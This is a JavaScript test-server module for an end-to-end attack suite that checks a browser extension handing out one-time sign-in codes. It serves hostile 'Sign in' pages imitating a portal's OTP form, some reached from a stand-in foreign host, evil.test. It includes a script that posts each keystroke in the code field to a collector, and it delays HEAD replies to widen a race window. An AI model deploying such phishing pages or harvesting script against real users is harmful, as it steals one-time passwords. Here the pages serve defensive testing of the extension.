// @ts-check
/**
 * Hostile pages for the end-to-end attack suite (tests/e2e/attacks/), served by the demo portal under
 * `/attacks/`: what a page on a portal's origin (an uploaded HTML file, injected markup) or on a
 * foreign site can do against the extension. None of this is Bitrix: the portal's own pages stay
 * faithful to ../../../shared/BITRIX.md. Every request here is logged, so a test can show that an
 * attack's mechanics really ran (a form post arrived, a page loaded at a given moment).
 *
 * - `GET /attacks/<name>.html`: a page of this folder; `{{PORT}}` becomes the port the request came
 *   in on, `{{OTHER_ORIGIN}}` the portal's other origin, `{{VARIANT}}` the `variant` query parameter
 *   (letters and dashes only). `http://evil.test:{{PORT}}` is a foreign site: the test browser maps
 *   every `*.test` host to the portal's address, and it is no portal. What several pages share is
 *   written once, here: a page that is not a whole document (no `<!doctype`) is the body of a
 *   "Sign in" page (`SIGN_IN_PAGE`); `{{OTP_FIELDS}}` becomes the fields of Bitrix's OTP form that
 *   the pages imitate (`OTP_FIELDS`), while the form element and its submit button, where the
 *   attacks are, stay in each page; `{{SEND_FIELD_HOME}}` becomes a script that posts whatever lands
 *   in the code field to the collector, `from` the page's name (`sendFieldHome`).
 * - `HEAD` of a page in `SLOW_HEAD`: answered after `SLOW_HEAD_MS`. The extension reads the portal's
 *   clock with a HEAD of the sign-in page before it hands out a TOTP code; a slow answer is a slow
 *   portal, and holds open the moment between the extension's check of a frame and its sending the code.
 * - `POST /attacks/collect` (any host): the collector a hostile page sends what it got to; logged
 *   with the host it was sent to.
 */
import { readFileSync } from 'node:fs';

/** @typedef {import('node:http').IncomingMessage} IncomingMessage */
/** @typedef {import('node:http').ServerResponse} ServerResponse */

/**
 * @typedef {object} AttackEvent
 * @property {'page' | 'head' | 'collect'} kind
 * @property {string} host the Host the request was sent to, e.g. `evil.test:41234`
 * @property {string} path with the query
 * @property {number} at when the request arrived (ms)
 * @property {number} [answeredAt] `head`: when it was answered
 * @property {Record<string, string>} [fields] `collect`: the posted fields
 */

/** @typedef {{ events: AttackEvent[] }} AttackLog */

export const ATTACKS_PATH = '/attacks/';
export const SLOW_HEAD_MS = 1500;
const SLOW_HEAD = new Set(['/attacks/frame-race.html']);
const MAX_BODY = 64 * 1024;

/** The document a page that is only a body (after its opening comment) is served in. */
const SIGN_IN_PAGE = [
  '<!doctype html>',
  '{{COMMENT}}',
  '<html lang="en">',
  '<head><meta charset="utf-8"><title>Sign in</title></head>',
  '<body>',
  '  {{BODY}}',
  '</body>',
  '</html>',
];

/** The fields of the classic component's OTP step (../pages.js) that the hostile pages' forms hold. */
const OTP_FIELDS = [
  '<input type="hidden" name="AUTH_FORM" value="Y">',
  '<input type="hidden" name="TYPE" value="OTP">',
  '<p>One-time password: <input type="text" name="USER_OTP" maxlength="50" autocomplete="off"></p>',
];

/**
 * What a collecting page runs: every value its code field takes goes to the collector on its origin.
 * @param {string} from the page's name, which the posts carry
 */
const sendFieldHome = (from) => [
  '<script>',
  "  const field = document.querySelector('input[name=USER_OTP]');",
  "  field.addEventListener('input', () => {",
  `    fetch('/attacks/collect', { method: 'POST', body: new URLSearchParams({ from: '${from}', USER_OTP: field.value }) });`,
  '  });',
  '</script>',
];

/**
 * `text` with `lines` in place of each line that holds only `{{name}}`, at that line's indentation.
 * @param {string} text
 * @param {string} name
 * @param {string[]} lines
 */
function expandLines(text, name, lines) {
  return text.replace(new RegExp(`^([ \\t]*)\\{\\{${name}\\}\\}$`, 'gm'), (_, indent) =>
    lines.map((line) => (line ? indent + line : line)).join('\n'),
  );
}

/**
 * The page `name` of this folder as it is served, before the request's own placeholders.
 * @param {string} name e.g. `receiver.html`
 * @param {string} file the page as this folder has it
 */
function expandPage(name, file) {
  let page = file;
  if (!/^<!doctype/i.test(file)) {
    // A body: in SIGN_IN_PAGE, its opening comment where a whole page has it, after the doctype.
    const [, comment, body = ''] = /^(?:(<!--[\s\S]*?-->)\n)?([\s\S]*?)\n?$/.exec(file) ?? [];
    page = expandLines(SIGN_IN_PAGE.join('\n'), 'COMMENT', comment ? comment.split('\n') : []);
    page = `${expandLines(page, 'BODY', body.split('\n'))}\n`;
  }
  page = expandLines(page, 'OTP_FIELDS', OTP_FIELDS);
  return expandLines(page, 'SEND_FIELD_HOME', sendFieldHome(name.replace(/\.html$/, '')));
}

/** @returns {AttackLog} */
export function createAttackLog() {
  return { events: [] };
}

/**
 * @param {ServerResponse} res
 * @param {number} status
 * @param {string} type
 * @param {string} body
 */
function send(res, status, type, body) {
  res.statusCode = status;
  res.setHeader('Content-Type', type);
  res.setHeader('Cache-Control', 'no-store');
  res.setHeader('Content-Length', Buffer.byteLength(body));
  res.end(body);
}

/** @param {IncomingMessage} req */
async function readBody(req) {
  let body = '';
  for await (const chunk of req) {
    body += chunk;
    if (body.length > MAX_BODY) break;
  }
  return body;
}

/**
 * @param {AttackLog} log
 * @param {IncomingMessage} req
 * @param {ServerResponse} res
 * @param {URL} url
 * @param {string[]} origins the portal's origins, first and second
 */
export async function attackRoute(log, req, res, url, origins) {
  const host = req.headers.host ?? '';
  const at = Date.now();
  const path = url.pathname + url.search;
  if (url.pathname === `${ATTACKS_PATH}collect`) {
    if (req.method !== 'POST') return send(res, 405, 'text/plain', 'POST only\n');
    const fields = Object.fromEntries(new URLSearchParams(await readBody(req)));
    log.events.push({ kind: 'collect', host, path, at, fields });
    return send(res, 200, 'text/html; charset=UTF-8', '<!doctype html><title>Received</title><p>Received.</p>');
  }
  const name = /^\/attacks\/([a-z-]+\.html)$/.exec(url.pathname)?.[1];
  let template;
  try {
    template = name ? readFileSync(new URL(name, import.meta.url), 'utf8') : null;
  } catch {
    template = null;
  }
  if (!template) return send(res, 404, 'text/plain', 'Not found\n');
  if (req.method === 'HEAD') {
    const event = /** @type {AttackEvent} */ ({ kind: 'head', host, path, at });
    log.events.push(event);
    if (SLOW_HEAD.has(url.pathname)) await new Promise((resolve) => setTimeout(resolve, SLOW_HEAD_MS));
    event.answeredAt = Date.now();
    res.statusCode = 200;
    res.setHeader('Content-Type', 'text/html; charset=UTF-8');
    res.setHeader('Cache-Control', 'no-store');
    return res.end();
  }
  if (req.method !== 'GET') return send(res, 405, 'text/plain', 'GET only\n');
  log.events.push({ kind: 'page', host, path, at });
  const port = host.split(':').pop() ?? '';
  const other = origins.find((origin) => new URL(origin).host !== host) ?? '';
  const variant = /^[a-z-]*$/.test(url.searchParams.get('variant') ?? '')
    ? (url.searchParams.get('variant') ?? '')
    : '';
  const html = expandPage(name ?? '', template)
    .replaceAll('{{PORT}}', port)
    .replaceAll('{{OTHER_ORIGIN}}', other)
    .replaceAll('{{VARIANT}}', variant);
  return send(res, 200, 'text/html; charset=UTF-8', html);
}
